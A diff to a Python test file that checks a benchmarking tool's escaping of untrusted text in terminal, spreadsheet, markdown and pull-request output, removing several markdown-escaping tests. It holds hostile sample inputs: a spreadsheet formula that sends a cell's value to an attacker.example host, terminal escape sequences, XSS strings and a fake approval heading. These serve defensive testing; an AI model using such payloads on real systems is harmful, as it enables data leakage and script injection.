@@ -6,20 +6,16 @@ import io
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
 from efficiency_bench.ledger.export import export
-from efficiency_bench.plain_text import cell, fenced, markdown, visible
+from efficiency_bench.plain_text import cell, visible
 from efficiency_bench.report.tables.fit_and_ledger import ledger_table
 from efficiency_bench.report.text_console import TextConsole
-from efficiency_bench.reproducibility.submit import pull_request
 from tests.commands import command
 from tests.ledger.factory import make_entry
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"see")'
 CURSOR = "\x1b[2J\x1b[1;1Hall is well\x07\x9b31m"
-READER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
-TEXTS = st.text(st.characters(codec="utf-8"), max_size=40)
 
 
 @pytest.mark.parametrize(
@@ -46,55 +42,6 @@ def test_nothing_that_a_terminal_obeys_is_left_and_all_else_is(text):
     assert not any((ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 for c in left)
     harmless = "".join(c for c in text if c.isprintable())
     assert visible(harmless) == harmless
-
-
-@given(TEXTS, TEXTS)
-def test_markdown_shows_the_text_itself_in_its_own_cell(one, other):
-    table = f"| a | b |\n|---|---|\n| {markdown(one)} | {markdown(other)} |\n"
-    tokens = READER.parse(table)
-    cells = [t for t in tokens if t.type == "inline"][2:]
-    assert [t.type for t in tokens if t.type.endswith("_open")].count("td_open") == 2
-    for text, found in zip((one, other), cells, strict=True):
-        kinds = {child.type for child in found.children}
-        assert kinds <= {"text", "text_special", "html_inline"}
-        html = [c.content for c in found.children if c.type == "html_inline"]
-        assert set(html) <= {"<!-- -->"}
-        words = "".join(c.content for c in found.children if c.type != "html_inline")
-        assert words == " ".join(visible(text).split())
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "![x](http://attacker.example/x.png)",
-        "[click](javascript:alert(1))",
-        "<img src=x onerror=alert(1)>",
-        "a | b | c",
-        "line\n\n# Approved by the maintainers",
-        "`code` **bold** ~~gone~~ _leaning_",
-        "&lt;b&gt; &#64;",
-        "<http://attacker.example>",
-    ],
-)
-def test_markup_of_others_is_text(text):
-    html = READER.render(f"- {markdown(text)}")
-    for tag in ("<img", "<a ", "<h1", "<strong", "<em", "<code", "<del", "<b>"):
-        assert tag not in html
-    shown = html.replace("<!-- -->", "").replace("&lt;", "<").replace("&gt;", ">")
-    shown = shown.replace("&quot;", '"').replace("&amp;", "&")
-    assert " ".join(text.split()) in shown
-
-
-def test_nobody_is_notified():
-    """GitHub links @name and #number in what is rendered; a comment between keeps them apart."""
-    assert READER.renderInline(markdown("@torvalds #1")) == "@<!-- -->torvalds #<!-- -->1"
-
-
-@given(TEXTS)
-def test_no_line_ends_a_block_of_code(text):
-    whole = f"{text}\n```\nafter\n````\nstill inside"
-    tokens = READER.parse(fenced(whole))
-    assert [t.type for t in tokens] == ["fence"]
 
 
 @pytest.mark.parametrize("first", [*"=+-@\t\r\n", "\uff1d", "\uff20"])
@@ -147,17 +94,3 @@ def test_the_commands_show_a_files_text_and_never_obey_it(tmp_path):
         assert "\x1b" not in done.stdout + done.stderr
         assert r"\x1b[2J" in done.stderr
     assert "\x1b" not in command("report", "--ledger", "led\x1b[2J", cwd=tmp_path).stderr
-
-
-def test_a_pull_request_holds_the_text_of_an_entry_as_text(tmp_path):
-    hostile = "x` | [y](http://z) <img src=x> @torvalds\n# Approved"
-    model = {"name": "resnet18", "published": "2015-12-10", "paper": hostile}
-    recipe = {"name": "small_plain", "date": None, "citation": hostile}
-    config = {"model": model, "recipe": recipe, "data": {"name": "digits"}, "form": "small"}
-    entry = make_entry(run_id="run", model=hostile, recipe=hostile, data=hostile, config=config)
-    text = pull_request(tmp_path, [entry], [], [])
-    html = READER.render(text)
-    assert html.count("<h1>") == 1
-    for tag in ("<img", "<a "):
-        assert tag not in html
-    assert "@torvalds" not in text
